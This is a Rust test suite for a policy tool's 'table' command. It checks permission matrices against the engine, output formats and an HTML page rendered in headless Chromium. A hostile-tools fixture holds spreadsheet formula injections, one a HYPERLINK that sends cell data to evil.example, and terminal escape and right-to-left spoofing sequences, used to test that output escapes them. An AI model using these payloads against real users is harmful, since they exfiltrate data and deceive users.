//! `toolgate table` and the matrix behind it.
//!
//! Soundness against the engine: on random policies (`generate::case`), the case corpus
//! and the example policies, every `allow` (`deny`) cell must be allowed (denied) by the
//! engine for concrete requests of that role and tool in every context tried, and every
//! conditional cell's examples (one allowed and one denied assignment written as
//! claims, address and time) must be decided that way by the engine. Then the command's
//! four formats, and the HTML page rendered in headless Chromium: a screenshot of the
//! requested size that is not blank, and the DOM after the page's script ran.
//!
//! `TOOLGATE_MATRIX_CASES` sets the number of random policies (default 300).

use std::collections::BTreeSet;
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use jiff::Timestamp;
use proptest::test_runner::{Config as RunnerConfig, TestCaseError, TestRunner};
use serde_json::{Map, Value};
use toolgate::unstable::ast::{Action, Kind};
use toolgate::unstable::check::{self, CheckedPolicy};
use toolgate::unstable::eval::{Engine, Request};
use toolgate::unstable::matrix::{self, Cell, Context, Matrix, Row, Verdict};
use toolgate::unstable::source::Sources;
use toolgate::unstable::wire;
use toolgate::{unstable::compile, unstable::parse};

use crate::cli::{toolgate, Scratch};
use crate::corpus;
use crate::generate::{self, pools::NAMES};

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// A policy loaded both ways: checked (for the matrix) and compiled (for the engine).
struct Loaded {
    sources: Sources,
    policy: CheckedPolicy,
    engine: Engine,
}

fn load(sources: Sources) -> Loaded {
    let parsed = parse::parse(&sources);
    assert!(parsed.diagnostics.is_empty(), "{:?}", parsed.diagnostics);
    let checked = check::check(&parsed.policy, &check::Config::default());
    let policy = checked.policy.expect("a policy without errors");
    let engine = Engine::new(compile::compile(&sources, &policy));
    Loaded {
        sources,
        policy,
        engine,
    }
}

/// What was checked, to make sure the tests test something.
#[derive(Debug, Default)]
struct Counts {
    /// Engine decisions compared with an allow or deny cell.
    decided: usize,
    /// Contexts that could not be given exactly the row's roles.
    skipped: usize,
    /// Conditional cells whose two examples the engine decided as expected.
    witnessed: usize,
    /// Conditional cells without an example that can be written as claims.
    unwritable: usize,
    /// Conditional cells that depend on the call's arguments (examples carry none).
    by_arguments: usize,
    /// Cells of each verdict.
    verdicts: [usize; 3],
}

/// Whether the engine allows `context` for the cell's row, name and action; `None`
/// when the claims do not give the principal exactly the row's effective roles.
fn engine_allows(
    loaded: &Loaded,
    row: &Row,
    name: &str,
    action: Action,
    context: &Context,
) -> Option<bool> {
    let principal = loaded.engine.principal(&context.claims).ok()?;
    let roles: BTreeSet<&str> = principal
        .role_names(loaded.engine.index())
        .into_iter()
        .collect();
    let wanted: BTreeSet<&str> = row.effective_roles.iter().map(String::as_str).collect();
    if roles != wanted {
        return None;
    }
    let request = Request {
        kind: Kind::Tool,
        action,
        name,
        ip: context.ip,
        time: context.time,
        arguments: None,
    };
    Some(loaded.engine.decide(&principal, &request).is_allowed())
}

/// The context with its role claims replaced by the row's role value.
fn for_row(loaded: &Loaded, row: &Row, context: &Context) -> Option<Context> {
    let mut claims: Map<String, Value> = context.claims.as_object()?.clone();
    for path in &loaded.policy.claims.roles {
        claims.remove(path.first_segment());
        if let Some((first, _)) = path.as_str().split_once('.') {
            claims.remove(first);
        }
    }
    if row.role.is_some() {
        let path = loaded.policy.claims.roles.first()?;
        let value = Value::from(vec![row.claim_value.clone()?]);
        if !path.place(&mut claims, value) {
            return None;
        }
    }
    Some(Context {
        claims: Value::Object(claims),
        ip: context.ip,
        time: context.time,
    })
}

/// Every cell of `matrix` against the engine, over `contexts` given the row's role, and
/// over the examples of every cell of the row (assignments aimed at the row's atoms).
fn check_matrix(
    loaded: &Loaded,
    matrix: &Matrix,
    contexts: &[Context],
    counts: &mut Counts,
) -> Result<(), String> {
    let mut row_contexts: Vec<Vec<Context>> = matrix
        .roles
        .iter()
        .map(|row| {
            contexts
                .iter()
                .filter_map(|c| for_row(loaded, row, c))
                .collect()
        })
        .collect();
    for cell in &matrix.cells {
        let examples = [&cell.allow_example, &cell.deny_example];
        row_contexts[cell.role].extend(examples.into_iter().flatten().cloned());
    }
    for cell in &matrix.cells {
        let row = &matrix.roles[cell.role];
        let name = &matrix.names[cell.name];
        let index = match cell.verdict {
            Verdict::Allow => 0,
            Verdict::Deny => 1,
            Verdict::Conditional => 2,
        };
        counts.verdicts[index] += 1;
        let describe = |what: &str| {
            format!(
                "{what}: role `{}`, tool `{name}`, {} is {:?} ({})",
                row.name,
                cell.action.keyword(),
                cell.verdict,
                cell.condition
            )
        };
        check_examples(loaded, row, name, cell, counts).map_err(|e| describe(&e))?;
        let expected = match cell.verdict {
            Verdict::Allow => true,
            Verdict::Deny => false,
            Verdict::Conditional => continue,
        };
        for context in &row_contexts[cell.role] {
            match engine_allows(loaded, row, name, cell.action, context) {
                None => counts.skipped += 1,
                Some(allowed) if allowed == expected => counts.decided += 1,
                Some(allowed) => {
                    return Err(describe(&format!(
                        "the engine says {} for {context:?}",
                        if allowed { "allow" } else { "deny" }
                    )))
                }
            }
        }
    }
    Ok(())
}

/// A cell's examples must be decided as the cell says; a conditional cell with both
/// examples is witnessed.
fn check_examples(
    loaded: &Loaded,
    row: &Row,
    name: &str,
    cell: &Cell,
    counts: &mut Counts,
) -> Result<(), String> {
    let examples = [(&cell.allow_example, true), (&cell.deny_example, false)];
    for (example, expected) in examples {
        let Some(example) = example else { continue };
        match engine_allows(loaded, row, name, cell.action, example) {
            Some(allowed) if allowed == expected => {}
            Some(_) => {
                return Err(format!(
                    "the engine decides the example {example:?} otherwise"
                ))
            }
            None => {
                return Err(format!(
                    "the example {example:?} does not give the row's roles"
                ))
            }
        }
    }
    if cell.condition.starts_with("depends on the arguments") {
        counts.by_arguments += 1;
        if cell.allow_example.is_some() || cell.deny_example.is_some() {
            return Err("a cell that depends on arguments has an example without them".into());
        }
    } else if cell.verdict == Verdict::Conditional && cell.exhaustive {
        if cell.allow_example.is_some() && cell.deny_example.is_some() {
            counts.witnessed += 1;
        } else {
            counts.unwritable += 1;
        }
    }
    match (cell.verdict, &cell.allow_example, &cell.deny_example) {
        (Verdict::Allow, _, Some(_)) | (Verdict::Deny, Some(_), _) => {
            Err("an example contradicts the verdict".to_string())
        }
        _ => Ok(()),
    }
}

fn cases() -> u32 {
    std::env::var("TOOLGATE_MATRIX_CASES")
        .ok()
        .and_then(|value| value.parse().ok())
        .unwrap_or(300)
}

#[test]
fn cells_agree_with_the_engine_on_random_policies() {
    let mut runner = TestRunner::new(RunnerConfig {
        cases: cases(),
        failure_persistence: None,
        ..RunnerConfig::default()
    });
    let counts = std::cell::RefCell::new(Counts::default());
    let result = runner.run(&generate::case(), |(text, requests)| {
        let loaded = load(Sources::from_text("generated.policy", text.as_str()));
        let aimed = requests.iter().filter(|r| r.kind == Kind::Tool);
        let pooled = NAMES.iter().take(3).map(|name| name.to_string());
        let mut names: Vec<String> = Vec::new();
        for name in aimed.map(|request| request.name.clone()).chain(pooled) {
            if !names.contains(&name) && names.len() < 8 {
                names.push(name);
            }
        }
        let matrix = matrix::build(&loaded.sources, &loaded.policy, &names, &Default::default());
        let contexts: Vec<Context> = requests
            .iter()
            .map(|request| Context {
                claims: request.claims.clone(),
                ip: request.ip,
                time: request.time,
            })
            .collect();
        check_matrix(&loaded, &matrix, &contexts, &mut counts.borrow_mut())
            .map_err(|error| TestCaseError::fail(format!("{error}\npolicy:\n{text}")))
    });
    if let Err(error) = result {
        panic!("{error}");
    }
    let counts = counts.into_inner();
    eprintln!("random policies: {counts:?}");
    assert!(counts.decided > 1000, "{counts:?}");
    assert!(counts.skipped * 10 < counts.decided, "{counts:?}");
    assert!(counts.verdicts.iter().all(|count| *count > 0), "{counts:?}");
    // Examples can only be missing where claim paths overlap or no value grants
    // exactly the role; most conditional cells have both.
    assert!(counts.witnessed > 4 * counts.unwritable, "{counts:?}");
}

/// The policy, the tool names and the request contexts of a JSON Lines file of
/// requests (lines that are not valid requests are left out).
fn requests(lines: impl IntoIterator<Item = String>) -> (Vec<String>, Vec<Context>) {
    let mut names = Vec::new();
    let mut contexts = Vec::new();
    for line in lines {
        let Ok(request) = wire::parse_request(&line) else {
            continue;
        };
        let Ok(claims) = serde_json::from_str::<Value>(request.claims.get()) else {
            continue;
        };
        if request.kind == Kind::Tool && !names.contains(&request.name.to_string()) {
            names.push(request.name.to_string());
        }
        let time = request
            .time
            .unwrap_or_else(|| "2026-11-26T10:00:00Z".parse().unwrap());
        contexts.push(Context {
            claims,
            ip: request.ip,
            time,
        });
    }
    (names, contexts)
}

/// More contexts: each context at other addresses and times.
fn varied(contexts: &[Context]) -> Vec<Context> {
    let addresses: [Option<IpAddr>; 4] = [
        None,
        Some("10.20.1.2".parse().unwrap()),
        Some("192.168.10.7".parse().unwrap()),
        Some("8.8.8.8".parse().unwrap()),
    ];
    let times: Vec<Timestamp> = [
        "2026-11-26T10:00:00Z",
        "2026-11-28T22:30:00Z",
        "2026-03-29T01:30:00Z",
        "2027-05-03T09:00:00Z",
    ]
    .iter()
    .map(|time| time.parse().unwrap())
    .collect();
    let mut all = Vec::new();
    for (index, context) in contexts.iter().enumerate() {
        for (offset, ip) in addresses.iter().enumerate() {
            let time = times[(index + offset) % times.len()];
            all.push(Context {
                claims: context.claims.clone(),
                ip: *ip,
                time,
            });
        }
    }
    all
}

#[test]
fn cells_agree_with_the_engine_on_the_corpus_and_examples() {
    let mut counts = Counts::default();
    let mut policies = 0;
    for case_dir in corpus::case_dirs() {
        let lines = case_dir
            .cases
            .iter()
            .map(|case| serde_json::to_string(&case.request).unwrap());
        let (names, contexts) = requests(lines);
        if names.is_empty() {
            continue;
        }
        let loaded = load(Sources::from_path(&case_dir.policy).unwrap());
        let matrix = matrix::build(&loaded.sources, &loaded.policy, &names, &Default::default());
        check_matrix(&loaded, &matrix, &varied(&contexts), &mut counts)
            .unwrap_or_else(|error| panic!("{:?}: {error}", case_dir.dir));
        policies += 1;
    }
    for example in ["example", "mcp-server"] {
        let path = root().join(format!("policies/{example}.policy"));
        let text =
            std::fs::read_to_string(root().join(format!("policies/{example}.requests.jsonl")));
        let (mut names, contexts) = requests(text.unwrap().lines().map(str::to_string));
        let tools = std::fs::read_to_string(root().join("policies/mcp-server.tools.json")).unwrap();
        let manifest =
            check::ToolManifest::parse(&tools, toolgate::unstable::source::SourceId(0)).unwrap();
        names.extend(manifest.tools.into_iter().map(|tool| tool.name));
        names.sort();
        names.dedup();
        let loaded = load(Sources::from_path(&path).unwrap());
        let matrix = matrix::build(&loaded.sources, &loaded.policy, &names, &Default::default());
        check_matrix(&loaded, &matrix, &varied(&contexts), &mut counts)
            .unwrap_or_else(|error| panic!("{example}: {error}"));
        policies += 1;
    }
    eprintln!("{policies} corpus and example policies: {counts:?}");
    assert!(policies >= 5);
    assert!(counts.decided > 1000, "{counts:?}");
    assert!(counts.skipped * 10 < counts.decided, "{counts:?}");
    assert!(
        counts.witnessed > 20 && counts.unwritable == 0,
        "{counts:?}"
    );
}

/// The cell of the mcp-server example's table as `toolgate table --format json` gives it.
fn json_cell<'v>(document: &'v Value, role: &str, name: &str, action: &str) -> &'v Value {
    document["cells"]
        .as_array()
        .unwrap()
        .iter()
        .find(|cell| cell["role"] == role && cell["tool"] == name && cell["action"] == action)
        .unwrap_or_else(|| panic!("no cell {role} {name} {action}"))
}

const MCP_POLICY: &str = "policies/mcp-server.policy";
const MCP_TOOLS: &str = "policies/mcp-server.tools.json";

fn table(format: &str) -> String {
    let policy = root().join(MCP_POLICY);
    let tools = root().join(MCP_TOOLS);
    let output = toolgate(
        &[
            "table",
            policy.to_str().unwrap(),
            "--tools",
            tools.to_str().unwrap(),
            "--format",
            format,
        ],
        None,
    );
    assert_eq!(output.status, 0, "{}", output.stderr);
    output.stdout
}

#[test]
fn json_and_csv_give_the_same_cells() {
    let document: Value = serde_json::from_str(&table("json")).unwrap();
    assert_eq!(document["kind"], "tool");
    assert_eq!(document["roles"].as_array().unwrap().len(), 6);
    assert_eq!(document["tools"].as_array().unwrap().len(), 12);
    let cells = document["cells"].as_array().unwrap();
    assert_eq!(cells.len(), 6 * 12 * 2);
    let anyone = json_cell(&document, "anyone", "repo.read_file", "call");
    assert_eq!(
        (&anyone["cell"], &anyone["condition"]),
        (&Value::from("deny"), &Value::Null)
    );
    let migrate = json_cell(&document, "developer", "db.migrate", "call");
    assert_eq!(migrate["cell"], "conditional");
    assert_eq!(
        migrate["condition"],
        "needs scopes `tool:read`, `tool:write`; \
         if ip in office and (time in business_hours or time in maintenance); \
         denied when claim `email_verified` == false; denied when client `coding-agent`; \
         denied without an address"
    );
    let contractor = json_cell(&document, "contractor", "db.query", "list");
    assert_eq!(contractor["cell"], "deny");
    assert!(contractor["rules"]
        .as_array()
        .unwrap()
        .iter()
        .any(|rule| rule.as_str().unwrap().ends_with("mcp-server.policy:144")));

    let csv = table("csv");
    let mut lines = csv.lines();
    assert_eq!(lines.next(), Some("role,tool,action,cell,condition"));
    let rows: Vec<Vec<String>> = lines.map(parse_csv_line).collect();
    assert_eq!(rows.len(), cells.len());
    for (row, cell) in rows.iter().zip(cells) {
        let condition = cell["condition"].as_str().unwrap_or("");
        let expected = [&cell["role"], &cell["tool"], &cell["action"], &cell["cell"]];
        let expected: Vec<&str> = expected.iter().map(|v| v.as_str().unwrap()).collect();
        assert_eq!(row[..4], expected[..]);
        assert_eq!(row[4], condition);
    }
}

/// One CSV line (no line breaks inside fields), RFC 4180 quoting.
fn parse_csv_line(line: &str) -> Vec<String> {
    let mut fields = vec![String::new()];
    let mut quoted = false;
    let mut characters = line.chars().peekable();
    while let Some(character) = characters.next() {
        match (character, quoted) {
            ('"', true) if characters.peek() == Some(&'"') => {
                characters.next();
                fields.last_mut().unwrap().push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => fields.push(String::new()),
            (other, _) => fields.last_mut().unwrap().push(other),
        }
    }
    fields
}

#[test]
fn human_output_has_a_legend_and_numbered_conditions() {
    let text = table("human");
    assert!(text.contains("legend: \u{2713} allow  \u{2717} deny  ~N conditional"));
    assert!(!text.contains('\u{1b}'), "no colour when not on a terminal");
    // Twelve tools do not fit 100 columns: one block per role.
    assert!(text.contains("developer (inherits read-only, user)\n"));
    assert!(text.contains("  db.drop_table       call \u{2717}     list \u{2717}\n"));
    let conditions = text.split("\nconditions\n").nth(1).unwrap();
    assert!(conditions.starts_with("  ~1    needs scope `tool:read`"));
    let digest = Command::new("sha256sum")
        .arg(root().join(MCP_POLICY))
        .output()
        .unwrap();
    let digest = String::from_utf8(digest.stdout).unwrap();
    let digest = digest.split_whitespace().next().unwrap();
    assert!(text.contains(&format!("sha256 {digest}\n")), "{digest}");
}

#[test]
fn narrow_tables_are_grids() {
    let scratch = Scratch::new("matrix-grid");
    let policy = scratch.file(
        "p.policy",
        "role user\nallow user to call tools \"a\"\nallow anyone to call tools \"b\" if scope \"s\"\n",
    );
    let tools = scratch.file("tools.json", r#"{"tools":[{"name":"a"},{"name":"b"}]}"#);
    let output = toolgate(&["table", &policy, "--tools", &tools], None);
    assert_eq!(output.status, 0, "{}", output.stderr);
    let grid: Vec<&str> = output
        .stdout
        .lines()
        .skip_while(|l| !l.starts_with("role"))
        .collect();
    assert_eq!(
        grid[..4],
        [
            "role    a      b",
            "anyone  \u{2717}   \u{2717}  ~1  ~1",
            "user    \u{2713}   \u{2713}  ~1  ~1",
            "",
        ]
    );
    assert!(output
        .stdout
        .ends_with("conditions\n  ~1    needs scope `s`\n"));
}

/// Tool names a hostile server could list: spreadsheet formulas, and terminal controls.
const HOSTILE_TOOLS: &str = r#"{"tools":[
  {"name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
  {"name":"+1+1"}, {"name":"-2+3"}, {"name":"@SUM(1,2)"}, {"name":"\tx"}, {"name":"\rx"},
  {"name":"fs.read"},
  {"name":"\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\\u001b[2J"},
  {"name":"tool\u009b31m\u202egpj.exe\u0007"}
]}"#;

/// `toolgate table` of a policy allowing `user` every tool of [`HOSTILE_TOOLS`], on a
/// terminal `columns` wide.
fn hostile_table(scratch: &Scratch, format: &str, columns: &str) -> String {
    let policy = scratch.file("p.policy", "role user\nallow user to call tools \"*\"\n");
    let tools = scratch.file("tools.json", HOSTILE_TOOLS);
    let output = Command::new(env!("CARGO_BIN_EXE_toolgate"))
        .args(["table", &policy, "--tools", &tools, "--format", format])
        .env("COLUMNS", columns)
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn csv_cells_are_never_formulas() {
    let scratch = Scratch::new("matrix-csv-injection");
    let csv = hostile_table(&scratch, "csv", "100");
    let names: Vec<String> = serde_json::from_str::<Value>(HOSTILE_TOOLS).unwrap()["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|tool| tool["name"].as_str().unwrap().to_string())
        .collect();
    // Records, not lines: the name with a carriage return is one quoted cell.
    let body = csv
        .strip_prefix("role,tool,action,cell,condition\n")
        .unwrap();
    let mut records = Vec::new();
    let mut record = String::new();
    let mut quoted = false;
    for character in body.chars() {
        if character == '"' {
            quoted = !quoted;
        }
        if character == '\n' && !quoted {
            records.push(parse_csv_line(&std::mem::take(&mut record)));
        } else {
            record.push(character);
        }
    }
    assert_eq!(records.len(), 2 * 2 * names.len());
    for (index, fields) in records.iter().enumerate() {
        assert_eq!(fields.len(), 5, "{fields:?}");
        let name = &names[index / 2 % names.len()];
        let formula = name.starts_with(['=', '+', '-', '@', '\t', '\r']);
        let expected = if formula {
            format!("'{name}")
        } else {
            name.clone()
        };
        assert_eq!(fields[1], expected);
        for field in fields {
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet runs: {field:?}"
            );
        }
    }
    let link = "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"";
    assert!(
        csv.contains(&format!("anyone,{link},call,deny,\n")),
        "{csv}"
    );
}

#[test]
fn control_characters_in_names_are_shown_as_symbols() {
    let scratch = Scratch::new("matrix-controls");
    // 100 columns: one block per role; 400: the grid; and the HTML page.
    for (format, columns) in [("human", "100"), ("human", "400"), ("html", "100")] {
        let text = hostile_table(&scratch, format, columns);
        match (format, columns) {
            ("human", "100") => assert!(text.contains("\nuser\n"), "blocks: {text}"),
            ("human", _) => assert!(text.contains("\nrole "), "a grid: {text}"),
            _ => assert!(text.starts_with("<!DOCTYPE html>")),
        }
        for raw in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\r'] {
            assert!(!text.contains(raw), "{format}: raw {raw:?} in\n{text}");
        }
        assert!(
            text.contains("\u{241b}]8;;http://evil.example\u{241b}\\link"),
            "{text}"
        );
        assert!(
            text.contains("tool\u{fffd}31m\u{fffd}gpj.exe\u{2407}"),
            "{text}"
        );
    }
}

#[test]
fn errors_exit_with_status_two() {
    let scratch = Scratch::new("matrix-errors");
    let broken = scratch.file("broken.policy", "allow nobody to call tools \"*\"\n");
    let tools = scratch.file("tools.json", r#"{"tools":[{"name":"a"}]}"#);
    let output = toolgate(&["table", &broken, "--tools", &tools], None);
    assert_eq!(output.status, 2);
    assert!(output.stderr.contains("E003"), "{}", output.stderr);
    assert!(output.stdout.is_empty());
    let good = scratch.file("good.policy", "allow anyone to call tools \"*\"\n");
    let output = toolgate(&["table", &good], None);
    assert_eq!(output.status, 2, "--tools is required");
    let not_tools = scratch.file("not-tools.json", "[1]");
    let output = toolgate(&["table", &good, "--tools", &not_tools], None);
    assert_eq!(output.status, 2);
    assert!(output.stderr.contains("tools/list"), "{}", output.stderr);
}

/// Runs headless Chromium with `extra` arguments; its standard output.
fn chromium(profile: &Path, extra: &[String]) -> String {
    let program = crate::external::chromium();
    let child = Command::new(&program)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
        ])
        .arg(format!("--user-data-dir={}", profile.display()))
        .args(extra)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|error| {
            panic!(
                "cannot run {} (scripts/test.sh installs Chromium): {error}",
                program.display()
            )
        });
    let output = child.wait_with_output().unwrap();
    assert!(
        output.status.success(),
        "chromium failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

/// The width and height in a PNG's header, after checking its signature and IHDR chunk.
fn png_size(bytes: &[u8]) -> (u32, u32) {
    assert_eq!(&bytes[..8], b"\x89PNG\r\n\x1a\n", "not a PNG");
    assert_eq!(&bytes[12..16], b"IHDR");
    let word = |at: usize| u32::from_be_bytes(bytes[at..at + 4].try_into().unwrap());
    (word(16), word(20))
}

fn screenshot(scratch: &Scratch, page: &str, name: &str) -> Vec<u8> {
    let png = scratch.0.join(name);
    let profile = scratch.0.join(format!("profile-{name}"));
    chromium(
        &profile,
        &[
            format!("--screenshot={}", png.display()),
            "--window-size=1400,900".to_string(),
            format!("file://{page}"),
        ],
    );
    std::fs::read(&png).unwrap()
}

#[test]
fn the_html_page_renders_in_a_browser() {
    let scratch = Scratch::new("matrix-html");
    let page = scratch.0.join("table.html");
    let policy = root().join(MCP_POLICY);
    let tools = root().join(MCP_TOOLS);
    let output = toolgate(
        &[
            "table",
            policy.to_str().unwrap(),
            "--tools",
            tools.to_str().unwrap(),
            "--format",
            "html",
            "--output",
            page.to_str().unwrap(),
        ],
        None,
    );
    assert_eq!(output.status, 0, "{}", output.stderr);
    let html = std::fs::read_to_string(&page).unwrap();
    for external in ["<link", "src=", "url(", "@import", "http://", "https://"] {
        assert!(!html.contains(external), "the page refers to `{external}`");
    }

    let shot = screenshot(&scratch, page.to_str().unwrap(), "table.png");
    assert_eq!(png_size(&shot), (1400, 900));
    let blank = scratch.file("blank.html", "<!DOCTYPE html><title>blank</title>");
    let blank_shot = screenshot(&scratch, &blank, "blank.png");
    assert_eq!(png_size(&blank_shot), (1400, 900));
    // A one-colour page compresses to almost nothing; the table's text and colours do not.
    assert!(
        shot.len() > 10 * blank_shot.len(),
        "screenshot {} bytes, blank page {} bytes",
        shot.len(),
        blank_shot.len()
    );

    let url = format!(
        "file://{}#sort=deploy.production&order=descending&tools=deploy",
        page.display()
    );
    let dom = chromium(
        &scratch.0.join("profile-dom"),
        &["--dump-dom".to_string(), url],
    );
    assert!(
        dom.contains("<html lang=\"en\" data-ready=\"true\">"),
        "the script did not run"
    );
    assert_eq!(dom.matches("<tr data-role=").count(), 6);
    assert_eq!(dom.matches("<td data-tool=").count(), 6 * 12);
    assert_eq!(dom.matches("<span class=\"v ").count(), 6 * 12 * 2 + 3);
    // Sorted deny-first by deploy.production, ties in policy order.
    let order: Vec<&str> = dom
        .split("<tr data-role=\"")
        .skip(1)
        .map(|rest| rest.split('"').next().unwrap())
        .collect();
    assert_eq!(
        order,
        [
            "anyone",
            "read-only",
            "user",
            "contractor",
            "developer",
            "admin"
        ]
    );
    assert!(dom.contains("data-tool=\"deploy.production\" aria-sort=\"descending\""));
    assert!(dom.contains("showing 6 of 6 roles, 2 of 12 tools"));
    assert_eq!(
        dom.matches("<th scope=\"col\" data-tool=\"repo.").count(),
        4
    );
    assert_eq!(
        dom.matches("data-tool=\"repo.read_file\" hidden=\"\"")
            .count(),
        1
    );
}

/// A claim test on a dotted path is unknown when a token holds the path in both forms:
/// the matrix knows that assignment, so a tautology over the claim is conditional, and
/// its deny example is such a token, which the engine denies.
#[test]
fn ambiguous_claim_paths_are_an_assignment_of_their_own() {
    let text = "allow anyone to call tools \"x\" if claim \"org.plan\" exists or not claim \"org.plan\" exists\nallow anyone to call tools \"y\" if claim \"/org/plan\" exists or not claim \"/org/plan\" exists\n";
    let loaded = load(Sources::from_text("ambiguous.policy", text));
    let names = vec!["x".to_string(), "y".to_string()];
    let matrix = matrix::build(&loaded.sources, &loaded.policy, &names, &Default::default());
    let cell = |name: &str| {
        let name = matrix.names.iter().position(|n| n == name).unwrap();
        matrix.cell(0, name, Action::Call).unwrap()
    };
    let dotted = cell("x");
    assert_eq!(dotted.verdict, Verdict::Conditional);
    let denied = dotted.deny_example.as_ref().unwrap();
    assert_eq!(denied.claims["org.plan"], "other", "{denied:?}");
    assert_eq!(denied.claims["org"]["plan"], "other", "{denied:?}");
    let row = &matrix.roles[0];
    assert_eq!(
        engine_allows(&loaded, row, "x", Action::Call, denied),
        Some(false)
    );
    assert_eq!(
        cell("y").verdict,
        Verdict::Allow,
        "a pointer is never ambiguous"
    );
}
